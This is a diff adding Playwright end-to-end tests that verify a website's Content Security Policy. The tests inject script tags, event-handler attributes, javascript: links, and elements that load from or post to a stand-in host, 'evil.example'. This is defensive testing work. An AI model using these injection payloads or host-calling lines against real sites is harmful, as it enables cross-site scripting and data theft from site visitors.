@@ -1,0 +1,142 @@
+import type { Page } from "playwright-core";
+import { until } from "../../functions/support/relaying";
+import { builtPages } from "../../support/built-pages";
+import { onTheSite } from "../../support/on-the-site";
+import { bringReact } from "../../support/react";
+import { submitButton } from "../../support/form-steps";
+
+const site = onTheSite();
+const EVIL = "https://evil.example";
+
+/** Answers for the foreign host; returns the requested URLs. */
+async function standInForEvil(page: Page): Promise<string[]> {
+  const asked: string[] = [];
+  await page.route(`${EVIL}/**`, (route) => {
+    asked.push(route.request().url());
+    return route.fulfill({ contentType: "text/javascript", body: "document.title = 'taken'" });
+  });
+  return asked;
+}
+
+const directivesOf = (violations: string[]) =>
+  violations.map((line) => line.split(": ")[0] ?? "").filter((name) => /^[\w-]+$/u.test(name));
+
+test("injected HTML neither runs nor loads", async () => {
+  const { page, violations } = await site.open("/404");
+  const asked = await standInForEvil(page);
+  await page.route(`${site.url}/contact`, async (route) => {
+    const response = await route.fetch();
+    const injected = `<script>document.title = "taken"</script>
+      <script src="${EVIL}/a.js"></script><base href="${EVIL}/">
+      <link rel="stylesheet" href="${EVIL}/a.css"><style>h1 { color: red !important }</style>
+      <iframe src="${EVIL}/frame"></iframe><img src="${EVIL}/a.png" alt="">
+      <img src="data:," alt="" onerror="document.title = 'taken'">
+      <object data="${EVIL}/a.swf"></object>`;
+    const body = (await response.text()).replace("<main", `${injected}<main`);
+    await route.fulfill({ response, body });
+  });
+  violations.length = 0;
+  await page.goto(`${site.url}/contact`, { waitUntil: "load" });
+  await until(() => directivesOf(violations).length >= 9);
+  expect(await page.title()).toMatch(/^Suunta - /u);
+  expect(await page.evaluate(() => document.baseURI)).toBe(`${site.url}/contact`);
+  expect(directivesOf(violations).sort()).toEqual([
+    "base-uri",
+    "frame-src",
+    "img-src",
+    "object-src",
+    "script-src-attr",
+    "script-src-elem",
+    "script-src-elem",
+    "style-src-elem",
+    "style-src-elem",
+  ]);
+  expect(asked).toEqual([]);
+  // The test expects these; any violation left would fail it.
+  violations.length = 0;
+});
+
+test("actions of an injected script are blocked", async () => {
+  const { page, violations } = await site.open("/");
+  const asked = await standInForEvil(page);
+  await page.evaluate((evil) => {
+    const box = document.createElement("div");
+    box.innerHTML = `<a href="javascript:document.title='taken'">link</a>
+      <button onclick="document.title='taken'">button</button><p style="color: red">text</p>
+      <form id="theirs" method="post" action="${evil}/take"></form>`;
+    const inline = document.createElement("script");
+    inline.textContent = "document.title = 'taken'";
+    box.append(inline);
+    document.body.append(box);
+    for (const part of box.querySelectorAll<HTMLElement>("a, button")) part.click();
+    setTimeout("document.title = 'taken'");
+    return fetch(`${evil}/told`).catch(() => undefined);
+  }, EVIL);
+  await until(() => violations.some((line) => line.startsWith("script-src: eval")));
+  expect(await page.title()).toMatch(/^Suunta - /u);
+  await page.locator("#theirs").evaluate((form) => (form as HTMLFormElement).submit());
+  await until(() => violations.some((line) => line.startsWith("form-action")));
+  expect([...new Set(directivesOf(violations))].sort()).toEqual([
+    "connect-src",
+    "form-action",
+    "script-src",
+    "script-src-attr",
+    "script-src-elem",
+    "style-src-attr",
+  ]);
+  expect(asked).toEqual([]);
+  // The test expects these; any violation left would fail it.
+  violations.length = 0;
+});
+
+/** Navigates as a client-side link does and loads everything lazy. */
+async function goOn(page: Page, path: string) {
+  await page.evaluate((to) => {
+    const { ___navigate: go } = window as unknown as { ___navigate: (path: string) => void };
+    go(to);
+  }, path);
+  await page.waitForFunction(
+    (to) => location.pathname === to && document.querySelector("h1"),
+    path,
+  );
+  await page.evaluate(async () => {
+    for (const part of document.querySelectorAll("section, form, footer")) {
+      part.scrollIntoView({ behavior: "instant" });
+      await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve)));
+    }
+  });
+}
+
+test("the policy of a visit's first page allows all pages after it", async () => {
+  // The page with React that has the fewest inline parts.
+  const { page, faults } = await site.open("/send-message");
+  await bringReact(page);
+  const paths = builtPages().map(({ path }) => path);
+  const shown = paths.filter((name) => !/404|not-found|^\/ai-mentoring$/u.test(name));
+  for (const path of shown) await goOn(page, path);
+
+  await goOn(page, "/book-call");
+  await page.getByText("Preferred date").scrollIntoViewIfNeeded();
+  await page.locator("[role=gridcell]").first().waitFor();
+  await submitButton(page).click();
+  await page.getByText("Please check the name field").first().waitFor();
+
+  await page.route("https://www.youtube-nocookie.com/**", (route) =>
+    route.fulfill({ contentType: "text/html", body: "<!doctype html><title>Player</title>" }),
+  );
+  await page.locator("header a[href='/ai-mentoring']:visible").click();
+  await page.waitForURL("**/ai-mentoring");
+  // A page load with its own policy, which resets the page's state.
+  await page.locator("#preview").scrollIntoViewIfNeeded();
+  await page
+    .locator("section[aria-labelledby=preview] :is(summary, [role=button])", {
+      hasText: "Numbers and scenarios",
+    })
+    .click();
+  await page.locator("[aria-haspopup=dialog]:visible").first().click();
+  await page.frameLocator("iframe").locator("html").waitFor({ state: "attached" });
+  expect(
+    await page.locator("iframe").evaluate((frame) => frame.getBoundingClientRect().width > 99),
+  ).toBe(true);
+  expect(faults).toEqual([]);
+});
